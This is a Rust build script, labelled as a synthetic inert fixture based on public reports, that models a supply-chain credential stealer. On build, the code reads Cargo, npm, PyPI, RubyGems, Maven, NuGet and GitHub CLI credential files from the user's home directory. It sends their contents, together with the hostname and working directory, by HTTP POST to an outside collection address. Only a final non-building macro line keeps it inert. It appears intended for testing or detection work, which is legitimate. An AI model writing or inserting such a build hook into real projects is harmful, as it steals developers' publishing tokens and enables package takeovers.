// Synthetic, inert fixture written from public reports
use std::fs;

const FILES: &[&str] = &[
    ".cargo/credentials.toml",
    ".cargo/config.toml",
    ".npmrc",
    ".pypirc",
    ".gem/credentials",
    ".m2/settings.xml",
    ".nuget/NuGet/NuGet.Config",
    ".config/gh/hosts.yml",
];

fn main() {
    println!("cargo:rerun-if-changed=nothing");
    let Some(home) = dirs::home_dir() else { return };
    let mut found = serde_json::Map::new();
    for name in FILES {
        if let Ok(text) = fs::read_to_string(home.join(name)) {
            found.insert(name.to_string(), text.into());
        }
    }
    if found.is_empty() {
        return;
    }
    let body = serde_json::json!({
        "host": std::env::var("HOSTNAME").unwrap_or_default(),
        "cwd": std::env::current_dir().unwrap_or_default(),
        "files": found,
    });
    let _ = ureq::post("http://198.51.100.93/api/collect")
        .timeout(std::time::Duration::from_secs(8))
        .send_json(body);
}

inert_fixture_does_not_build!();
